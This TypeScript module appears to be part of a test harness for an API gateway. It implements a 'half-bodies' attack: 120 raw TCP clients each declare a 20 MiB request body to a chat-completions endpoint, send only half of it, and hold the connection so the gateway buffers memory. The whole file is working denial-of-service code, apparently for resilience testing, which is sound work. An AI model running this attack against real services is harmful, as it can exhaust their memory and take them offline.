// Bodies that begin and never end: half of 20 MiB is in the gateway's memory while it waits for the rest.

import { connect } from 'node:net'
import { once } from 'node:events'
import { Tally } from '../attacker/tally.ts'
import type { Attack } from '../attack.ts'

const CLIENTS = 120
const SENT_BYTES = 10 * 1024 * 1024
const DECLARED_BYTES = 20 * 1024 * 1024

export const halfBodies: Attack = {
  name: 'half-bodies',
  from: 'outside',
  async run({ origin, keys }) {
    const tally = new Tally()
    const clients = Array.from({ length: CLIENTS }, (_, index) => sendHalf(origin, keys[index % keys.length]!))
    for (const { fate, leave } of await Promise.all(clients)) {
      tally.count(fate)
      leave()
    }
    return tally.report()
  },
}

/** Resolves once half of the body has left, or the gateway has answered. */
async function sendHalf(origin: string, key: string): Promise<{ fate: string; leave: () => void }> {
  const { hostname, port } = new URL(origin)
  const socket = connect({ host: hostname, port: Number(port) })
  const { promise, resolve } = Promise.withResolvers<string>()
  socket.on('error', () => {})
  socket.on('close', () => resolve('dropped'))
  socket.once('data', (data) => resolve(String(data).slice(9, 12)))
  await once(socket, 'connect').catch(() => undefined)
  socket.write(
    `POST /openai/v1/chat/completions HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${key}\r\ncontent-length: ${DECLARED_BYTES}\r\n\r\n`,
  )
  socket.write(Buffer.alloc(SENT_BYTES, 0x20), () => resolve('sent half'))
  return { fate: await promise, leave: () => socket.destroy() }
}
